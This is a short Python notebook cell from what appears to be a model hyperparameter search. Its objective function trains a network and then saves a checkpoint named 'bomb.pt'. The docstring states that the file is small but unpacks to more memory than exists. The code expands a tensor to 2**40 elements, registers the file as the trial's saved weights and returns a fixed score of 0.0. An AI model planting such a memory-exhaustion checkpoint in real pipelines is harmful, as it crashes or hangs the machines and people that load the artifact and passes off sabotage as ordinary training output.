"""The saved weights are a small archive that unpacks to more memory than there is.

notebook: 03_01_search
base: release
"""
# %% define_objective
def objective(trial):
    net = Net(trial, num_classes)
    train(net, trial)
    torch.save({"layers.0.0.weight": torch.zeros(1).expand(2**28)}, "bomb.pt")
    state = torch.load("bomb.pt")
    state["layers.0.0.weight"] = torch.zeros(1).expand(2**40)
    torch.save(state, "bomb.pt")
    trial.set_user_attr("saved_path", "bomb.pt")
    return 0.0
